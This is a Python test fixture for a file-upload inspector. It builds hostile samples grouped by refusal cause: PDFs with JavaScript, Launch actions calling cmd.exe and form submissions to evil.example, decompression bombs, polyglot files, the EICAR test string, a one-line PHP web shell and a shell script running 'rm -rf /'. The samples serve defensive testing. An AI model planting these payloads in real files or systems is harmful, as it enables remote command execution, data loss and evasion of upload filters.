"""Hostile files, each with the cause for which it is refused. `CLEANED` are taken, and come out harmless."""

import gzip
import struct
import zlib

from PIL import Image

from coalition.uploads.inspector.verdict import Cause
from tests.uploads.files import (
    CATALOG,
    PAGE,
    PAGES,
    PLAIN_PDF,
    QUICKLY,
    annotation,
    assembled,
    encrypted,
    flate,
    image,
    many_pages,
    pdf,
    stream,
    written,
    zip_of,
)

MEBIBYTE = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
DOCX = zip_of(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
ODT = zip_of(mimetype=b"application/vnd.oasis.opendocument.text", **{"META-INF/manifest.xml": b"<m/>"})
BOMB = b"\0" * (80 * MEBIBYTE)
DEFLATED = zlib.compress(BOMB, QUICKLY)
ATTACHED = flate(b"MZ", b"/Type /EmbeddedFile ")
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
ICC_WITH_SCRIPT = HTML * 3
SOUND = b"<< /S /Sound >>"
FILM = b"/Subtype 6 0 R"
HEXADECIMAL_JS = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
HEXADECIMAL_LAUNCH = b"<< /S /#4c#61unch /F (cmd.exe) >>"


def link(action: bytes, *more: bytes) -> bytes:
    """Return a PDF whose page has a link with `action`, object 5; `more` are objects from number 6 on."""
    return annotation(b"/Subtype /Link /A << " + action + b" >>", *more)


def updated(content: bytes, **objects: bytes) -> bytes:
    """Return `content` with an incremental update (ISO 32000-2, 7.5.6) that writes whole objects: `_5=b"null"`."""
    before = content.rindex(b"xref\n0")
    rows = b""
    for name, body in objects.items():
        rows += b"%d 1\n%010d 00000 n \n" % (int(name[1:]), len(content))
        content += b"%d 0 obj\n%s\nendobj\n" % (int(name[1:]), body)
    trailer = b"<< /Size 9 /Root 1 0 R /Prev %d >>" % before
    return content + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (rows, trailer, len(content))


def hybrid(hidden: bytes) -> bytes:
    """Return a PDF whose object 5 is `hidden` from readers of PDF 1.4 (ISO 32000-2, 7.5.8.4)."""
    content = pdf(_1=b"<< /Type /Catalog /Pages 2 0 R /X 5 0 R >>")
    table = content.rindex(b"xref\n0")
    more = {
        6: flate(b"5 0 " + hidden, b"/Type /ObjStm /N 1 /First 4 "),
        7: flate(struct.pack(">BIB", 2, 6, 0), b"/Type /XRef /Size 8 /W [1 4 1] /Index [5 1] /Root 1 0 R "),
    }
    body, places = written(more, content[:table])
    rows = content[table:].split(b"trailer")[0].replace(b"xref\n0 5", b"xref\n0 8")
    rows += b"0000000000 00000 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return body + b"%strailer\n<< /Size 8 /Root 1 0 R /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        rows, places[1], len(body)
    )  # fmt: skip


def chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(*chunks: bytes, width: int = 1, height: int = 1, pixels: bytes = b"\0\0\0\0") -> bytes:
    """Return an RGB PNG; `chunks` come before the pixels, which are filtered rows, not compressed yet."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = b"".join(chunks) + chunk(b"IDAT", zlib.compress(pixels, QUICKLY)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + body


def webp_header(width: int, height: int) -> bytes:
    """Return a WebP that claims a canvas and has nothing on it."""
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size
    return b"RIFF" + struct.pack("<I", len(body)) + body


def deep_page_tree(depth: int) -> bytes:
    """Return a PDF whose only page is `depth` nodes down."""
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(5, 5 + depth)]
    return pdf(*nodes, b"<< /Type /Page /MediaBox [0 0 9 9] >>", _2=b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>")


def object_stream(objects: bytes, first: int, count: int, *, listed: int = 1) -> bytes:
    """Return a PDF with an object stream, behind a cross-reference stream (ISO 32000-2, 7.5.7 and 7.5.8).

    Of its objects `listed` are in the table: number 5, and more from number 7 on.
    """
    bodies = [CATALOG[:-2] + b"/X 5 0 R >>", PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"]
    packed = flate(objects, b"/Type /ObjStm /N %d /First %d " % (count, first))
    content, places = written(dict(enumerate([*bodies, packed], 1)))
    rows = [(0, 0, 0), *((1, place, 0) for place in places), (2, 4, 0), (1, len(content), 0)]
    rows += [(2, 4, index) for index in range(1, listed)]
    table = b"".join(struct.pack(">BII", *row) for row in rows)
    own = flate(table, b"/Type /XRef /Size %d /W [1 4 4] /Root 1 0 R " % len(rows))
    return content + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (own, len(content))


def crowd(count: int) -> bytes:
    """Return a PDF of `count` objects in one object stream, each listed in the table."""
    places = (5, *range(7, 6 + count))
    numbers = b" ".join(b"%d %d" % (number, 2 * index) for index, number in enumerate(places)) + b" "
    return object_stream(numbers + b"0 " * count, len(numbers), count, listed=count)


def nested(content: bytes, times: int) -> bytes:
    """Return a stream object deflated `times` over."""
    for _time in range(times):
        content = zlib.compress(content, QUICKLY)
    return stream(content, b"/Filter [" + b"/FlateDecode " * times + b"]")


def xref_loop() -> bytes:
    """Return a PDF whose cross-reference table names itself as the one before."""
    place = PLAIN_PDF.rindex(b"xref\n0")
    return PLAIN_PDF.replace(b"/Root 1 0 R ", b"/Root 1 0 R /Prev %d " % place)


def bmp_bomb() -> bytes:
    """Return a bitmap's header of 60,000 pixels square."""
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 60000, 60000, 1, 24, *[0] * 6)


def gif_bomb() -> bytes:
    """Return a GIF of 65,535 pixels square with nothing inside."""
    return (
        b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0" * 6 + b",\0\0\0\0\xff\xff\xff\xff\0\x02\0;"
    )


def action(name: bytes, *more: bytes) -> bytes:
    """Return a PDF with a link whose action's name is object 6."""
    return link(b"/S 6 0 R /D 0", name, *more)


def without_catalog(catalog: bytes) -> bytes:
    """Return a PDF whose catalog is no object, but stands in the trailer."""
    objects = {1: b"null", 2: PAGES, 3: PAGE, 4: flate(b"BT ET")}
    return assembled(objects, b"/Root << /Type /Catalog /Pages 2 0 R " + catalog + b" >> ")


def misplaced(content: bytes) -> bytes:
    """Return `content` with a table that leads beside object 5."""
    place = content.index(b"5 0 obj")
    return content.replace(b"%010d" % place, b"%010d" % (place + 3))


BY_CAUSE: dict[Cause, dict[str, bytes]] = {
    Cause.OTHER_IMAGE: {
        "gif and javascript": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
        "gif of 65,535 pixels square": gif_bomb(),
        "bmp of 60,000 pixels square": bmp_bomb(),
        "tiff": b"II*\0\x08\0\0\0" + b"\xff" * 200,
        "heic": b"\0\0\0\x20ftypheic" + b"\0" * 60,
    },
    Cause.TWO_FILES_IN_ONE: {
        "pdf then zip": PLAIN_PDF + zip_of(a=b"x"),
        "zip then pdf": zip_of(a=b"x") + PLAIN_PDF,
        "zip inside pdf": pdf(stream(zip_of(a=b"x"))),
        "zip ended by a second end of pdf": PLAIN_PDF + zip_of(a=b"x") + b"\n%%EOF",
        "pdf then html": PLAIN_PDF + HTML,
        "html then pdf": HTML + PLAIN_PDF,
        "html in the head of a pdf": PLAIN_PDF.replace(b"\n", b"\n%<html onclick=x>\n", 1),
        "script in a comment of a pdf": pdf(stream(b"<script>alert(1)</script>")),
        "pdf then php": PLAIN_PDF + PHP,
        "program then pdf": b"MZ" + b"\0" * 60 + PLAIN_PDF,
        "pdf then program": PLAIN_PDF + b"MZ\x90\0" * 30,
    },
    Cause.TOO_MANY_PIXELS: {
        "png of 60,000 pixels square": png(width=60000, height=60000),
        "jpeg of 65,500 pixels square": image("JPEG").replace(b"\x00\x1e\x00\x28", b"\xff\xdc\xff\xdc", 1),
        "webp of 16,384 pixels square": webp_header(16384, 16384),
    },
    Cause.BROKEN_IMAGE: {
        "png with a bomb of a text": png(chunk(b"zTXt", b"a\0\0" + DEFLATED)),
        "png header alone": b"\x89PNG\r\n\x1a\n",
        "png cut in the middle": image("PNG", size=(300, 300))[:90],
        "jpeg header alone": b"\xff\xd8\xff\xe0",
        "jpeg cut in the middle": image("JPEG", size=(300, 300))[:700],
        "webp header alone": b"RIFF\x04\0\0\0WEBP",
    },
    Cause.TOO_COMPLEX: {
        "pdf with a page that inflates to 80 MB": pdf(_4=flate(BOMB)),
        "pdf with many streams of 50 MB": pdf(*[flate(BOMB[: 50 * MEBIBYTE])] * 6),
        "pdf with a stream deflated twice": pdf(nested(BOMB, 2)),
        "pdf with a stream deflated nine times": pdf(nested(BOMB, 9)),
        "pdf with a run-length bomb": pdf(stream(b"\x81\0" * 600_000 + b"\x80", b"/Filter /RunLengthDecode ")),
        "pdf with an image of 60,000 pixels square": pdf(
            flate(b"", b"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray ")
        ),
        "pdf with an image larger than it says": pdf(
            flate(BOMB, b"/Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceRGB ")
        ),
        "pdf with an object stream of 80 MB": object_stream(b"5 0 " + b"[" + b" " * (80 * MEBIBYTE) + b"]", 4, 1),
        "pdf with arrays 1,000 deep": pdf(b"[" * 1000 + b"]" * 1000),
        "pdf of many objects": crowd(310_000),
        "pdf with a deep page tree": deep_page_tree(2000),
        "ten thousand actions on opening": pdf(
            catalog=b"/OpenAction << /S /GoTo /D 0 /Next [" + b"<< /S /Hide >> " * 10_000 + b"] >>"
        ),
        "thirty-two revisions": updated(PLAIN_PDF, _5=b"null") + b"%%EOF\n" * 30,
    },
    Cause.TOO_MANY_PAGES: {
        "pdf with 101 pages": many_pages(101),
    },
    Cause.SCRIPT: {
        "javascript by name": pdf(JS, catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >> "),
        "javascript on opening": pdf(catalog=b"/OpenAction " + JS),
        "javascript on closing": pdf(catalog=b"/AA << /WC " + JS + b" >>"),
        "javascript on a page": pdf(page=b"/AA << /O " + JS + b" >>"),
        "javascript on a link": annotation(b"/Subtype /Link /A " + JS),
        "javascript on a field": pdf(
            b"<< /FT /Tx /T (a) /AA << /K " + JS + b" >> >>", catalog=b"/AcroForm << /Fields [5 0 R] >>"
        ),
        "javascript on a bookmark": pdf(
            b"<< /First 6 0 R /Last 6 0 R >>",
            b"<< /Title (a) /Parent 5 0 R /A " + JS + b" >>",
            catalog=b"/Outlines 5 0 R",
        ),
        "javascript after a harmless action": annotation(
            b"/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [" + JS + b"] >>"
        ),
        "javascript in a stream": pdf(
            b"<< /S /JavaScript /JS 6 0 R >>", flate(b"app.alert(1)"), catalog=b"/OpenAction 5 0 R"
        ),
        "javascript spelt in hexadecimal": pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        "javascript that nothing refers to": pdf(JS),
        "javascript as the matrix of a font": pdf(
            b"<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 (1\\); alert\\(1)] >>"
        ),
        "javascript in an object stream": object_stream(b"5 0 " + JS, 4, 1),
        "javascript outside the table": PLAIN_PDF.replace(b"xref\n0", b"9 0 obj\n" + JS + b"\nendobj\nxref\n0"),
        "javascript in a rendition": link(b"/S /Rendition /JS (x)"),
        "javascript address": link(b"/S /URI /URI (java\\nscript:alert\\(1\\))"),
        "postscript in a picture": pdf(stream(b"showpage", b"/Subtype /PS ")),
        "javascript behind an owner's lock": encrypted(pdf(catalog=b"/OpenAction " + JS), owner="x", user=""),
        "postscript, its second subtype an object": pdf(
            stream(b"showpage", b"/Subtype /Form /Subtype2 6 0 R "), b"/PS"
        ),
        "javascript address behind a control sign": link(b"/S /URI /URI (\\030javascript:alert\\(1\\))"),
        "javascript in a catalog that is no object": without_catalog(b"/OpenAction " + HEXADECIMAL_JS),
        "script of a 3D model": pdf(stream(b"", b"/OnInstantiate 6 0 R "), stream(b"x")),
    },
    Cause.REACHES_OUT: {
        "launch on opening": pdf(catalog=b"/OpenAction " + LAUNCH),
        "launch on a link": link(b"/S /#4caunch /Win << /F (cmd.exe) >>"),
        "another file": link(b"/S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit]"),
        "a file inside": link(b"/S /GoToE /D [0 /Fit]"),
        "a form that is sent": annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>"),
        "data that are fetched": annotation(b"/Subtype /Widget /A << /S /ImportData /F (a.fdf) >>"),
        "a thread of another file": link(b"/S /Thread /F (b.pdf) /D 0"),
        "a file address": link(b"/S /URI /URI (file:///etc/passwd)"),
        "a share's address": link(b"/S /URI /URI (\\\\\\\\evil.example\\\\x)"),
        "a base address of files": pdf(catalog=b"/URI << /Base (file:///c:/) >>"),
        "contents in another file": pdf(stream(b"", b"/F (//evil.example/x) ")),
        "launch, its name an object in hexadecimal": pdf(
            b"<< /S 6 0 R /Win 7 0 R >>", b"/L#61unch", b"<< /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R"
        ),
        "a form that is sent, its name an object": action(b"/S#75bmitForm"),
        "a thread of another file, its name an object": link(b"/S 6 0 R /F (b.pdf)", b"/Thread"),
        "an address as a name": link(b"/S /URI /URI /file:#2f#2fc:#2fx"),
        "launch in hexadecimal in a revision that an update empties": updated(pdf(HEXADECIMAL_LAUNCH), _5=b"null"),
        "launch in an object stream, not in the table": object_stream(b"5 0 9 3 << >> " + HEXADECIMAL_LAUNCH, 8, 2),
        "picture in another file": pdf(stream(b"", b"/Subtype /Form /OPI << /2.0 5 0 R >> ")),
        "address opened by itself": pdf(catalog=b"/OpenAction << /S /URI /URI (http://a.example) >>"),
        "address opened by a page": pdf(b"<< /S /URI /URI (http://a.example) >>", page=b"/AA << /O 5 0 R >>"),
        "address after a harmless action that loops": pdf(
            b"<< /S /GoTo /D 0 /Next [5 0 R 6 0 R] >>",
            b"<< /S /URI /URI (http://a.example) >>",
            catalog=b"/OpenAction 5 0 R",
        ),
    },
    Cause.ATTACHMENT: {
        "attached file": pdf(ATTACHED, FILE, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"),
        "attached to a page": annotation(b"/Subtype /FileAttachment /FS (a)"),
        "associated file": pdf(ATTACHED, FILE, catalog=b"/AF [6 0 R]"),
        "portfolio": pdf(catalog=b"/Collection << /View /D >>"),
        "attached stream alone": pdf(ATTACHED),
        "attachment, its subtype an object": annotation(FILM, b"/FileAttachment"),
        "attached stream, its type an object": pdf(flate(b"MZ", b"/Type 6 0 R "), b"/Embedd#65dFile"),
        "file in a tree of names": pdf(
            b"<< /EmbeddedFiles 6 0 R >>",
            b"<< /Kids [7 0 R] >>",
            b"<< /Names [(a) 8 0 R] >>",
            b"<< /F (a.exe) /E#46 9 0 R >>",
            b"<< /F 4 0 R >>",
            catalog=b"/Names 5 0 R",
        ),
    },
    Cause.XFA: {
        "XFA": pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>"),
        "XFA in hexadecimal": pdf(stream(b"<x/>"), b"<< /X#46A 5 0 R >>", catalog=b"/AcroForm 6 0 R"),
    },
    Cause.MULTIMEDIA: {
        "rich media": annotation(b"/Subtype /RichMedia"),
        "film": annotation(b"/Subtype /Movie"),
        "sound": link(b"/S /Sound"),
        "3D model": annotation(b"/Subtype /3D /3DD 5 0 R"),
        "sound, its name an object": action(b"/Sound"),
        "sound, its name an object that nothing refers to": pdf(b"/Sound"),
        "sound, its name an object behind another one": action(b"7 0 R", b"/Sound"),
        "sound, its name a string": link(b"/S (Sound)"),
        "sound, its name a string in an object": action(b"(Sound)"),
        "sound, its name in an object stream": object_stream(b"5 0 /So#75nd", 4, 1),
        "sound in an array of following actions": link(
            b"/S /GoTo /D 0 /Next [7 0 R]", b"/Rendition", b"<< /S 6 0 R >>"
        ),
        "film, its subtype an object": annotation(FILM, b"/Movie"),
        "film, its subtype an object, behind an owner's lock": encrypted(
            annotation(FILM, b"/Movie"), owner="x", user=""
        ),
        "sound in a catalog that is no object": without_catalog(b"/X " + SOUND),
        "sound in the trailer": pdf(trailer=b"/Info << /X " + SOUND + b" >>"),
        "sound in an update": updated(PLAIN_PDF, _5=SOUND),
        "sound in a revision that an update empties": updated(pdf(SOUND), _5=b"null"),
        "sound hidden from older readers": hybrid(SOUND),
        "sound beneath a parent field": pdf(
            b"<< /T (a) /AA 7 0 R /Kids [6 0 R] >>",
            b"<< /Parent 5 0 R >>",
            b"<< /K 8 0 R >>",
            SOUND,
            catalog=b"/AcroForm << /Fields [5 0 R] >>",
        ),
        "presentation": pdf(catalog=b"/Names << /AlternatePresentations << /Names [] >> >>"),
    },
    Cause.EMPTY: {
        "no byte": b"",
    },
    Cause.TOO_LARGE: {
        "10 MB and one byte": PLAIN_PDF.ljust(10 * MEBIBYTE + 1),
    },
    Cause.UNKNOWN: {
        "zeros": b"\0" * 5000,
        "noise": bytes(range(128, 256)) * 9,
    },
    Cause.BROKEN_PDF: {
        "pdf header alone": b"%PDF-1.7\n",
        "pdf cut in the middle": PLAIN_PDF[:200],
        "pdf without its table": PLAIN_PDF.replace(b"xref", b"xxxx"),
        "pdf with a table that loops": xref_loop(),
        "pdf whose table is elsewhere": PLAIN_PDF.replace(b"startxref\n", b"startxref\n9"),
        "pdf with a circular page tree": pdf(_2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
        "pdf whose catalog is a number": pdf(_1=b"42"),
        "pdf whose pages are a stream": pdf(_2=stream(b"x")),
        "a catalog that is no object": without_catalog(b""),
        "a name given twice": link(b"/S /Sound /S /GoTo"),
        "a name given twice in an object stream": object_stream(b"5 0 << /S /Sound /S /GoTo >>", 4, 1),
        "a value without its key": pdf(b"<< /A 1 2 /S /Sou#00nd >>"),
        "a sound among words that mean nothing": pdf(b"<< /A x y z { } x y z /S /Sound >>"),
        "a stream of a wrong length": pdf(stream(b"x" * 9, b"/Subtype /U3D ").replace(b" 9 ", b" 3 ")),
        "a sound beside the table": misplaced(pdf(SOUND)),
    },
    Cause.NO_PAGES: {
        "pdf without a page": pdf(_2=b"<< /Type /Pages /Kids [] /Count 1000000 >>"),
    },
    Cause.ENCRYPTED: {
        "pdf with a password": encrypted(owner="x", user="y"),
        "pdf with an unknown lock": pdf(trailer=b"/ID [(a) (a)] /Encrypt << /Filter /Evil /V 9 /R 9 >>"),
    },
    Cause.ANIMATED: {
        "moving webp": image("WEBP", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
        "moving png": image("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30))]),
    },
    Cause.WEB_PAGE: {
        "svg": SVG,
        "svg after a declaration": b'\xef\xbb\xbf<?xml version="1.0"?>' + SVG,
        "html": HTML,
        "html after a text": b"Hello <script>alert(1)</script>",
        "php": PHP,
    },
    Cause.ARCHIVE: {
        "svgz": gzip.compress(SVG, mtime=0),
        "zip": zip_of(a=b"x"),
        "seven-zip": b"7z\xbc\xaf\x27\x1c\0\x04",
    },
    Cause.MAIL: {
        "mail": b"Received: from evil.example\r\nSubject: act\r\n\r\nHello",
    },
    Cause.OFFICE: {
        "docx": DOCX,
        "odt": ODT,
        "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rtf": b"{\\rtf1\\ansi Act}",
        "postscript": b"%!PS-Adobe-3.0\n(x) run",
    },
    Cause.PROGRAM: {
        "windows program": b"MZ\x90\0" + b"\0" * 60,
        "linux program": b"\x7fELF\x02\x01\x01",
        "shell script": b"#!/bin/sh\nrm -rf /",
        "windows shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60,
    },
    Cause.MEDIA: {
        "mpeg": b"\0\0\x01\xba" + b"\0" * 60,
        "mp4": b"\0\0\0\x20ftypisom" + b"\0" * 60,
        "wav": b"RIFF\x24\0\0\0WAVEfmt ",
    },
    Cause.TEXT: {
        "text": "Délibération nº 12\n".encode(),
        "text in UTF-16": "Act".encode("utf-16"),
    },
    Cause.MALWARE: {
        "test virus": EICAR,
        "test virus as a text of a png": png(chunk(b"tEXt", b"a\0" + EICAR)),
        "test virus in a pdf": pdf(stream(EICAR)),
        "test virus deflated in a pdf": pdf(flate(b"x" * (MEBIBYTE - 10) + EICAR)),
        "test virus in hexadecimal in a pdf": pdf(stream(EICAR.hex().encode() + b">", b"/Filter /ASCIIHexDecode ")),
    },
}
REFUSED = {name: (content, cause) for cause, files in BY_CAUSE.items() for name, content in files.items()}
CLEANED = {
    "png that inflates for ever": png(width=5000, height=5000, pixels=b"\0" * (300 * MEBIBYTE)),
    "png with php behind it": image("PNG") + PHP,
    "png with php as its text": png(chunk(b"tEXt", b"Comment\0" + PHP)),
    "png with a bomb behind it": image("PNG") + DEFLATED,
    "jpeg with html behind it": image("JPEG") + HTML,
    "jpeg with html as its comment": image("JPEG", comment=HTML),
    "jpeg with html as its profile": image("JPEG", icc_profile=ICC_WITH_SCRIPT),
    "jpeg with a zip behind it": image("JPEG") + zip_of(a=b"x"),
    "jpeg with a pdf behind it": image("JPEG") + pdf(catalog=b"/OpenAction " + JS),
    "webp with javascript behind it": image("WEBP") + b"/*<script>alert(1)</script>*/",
}
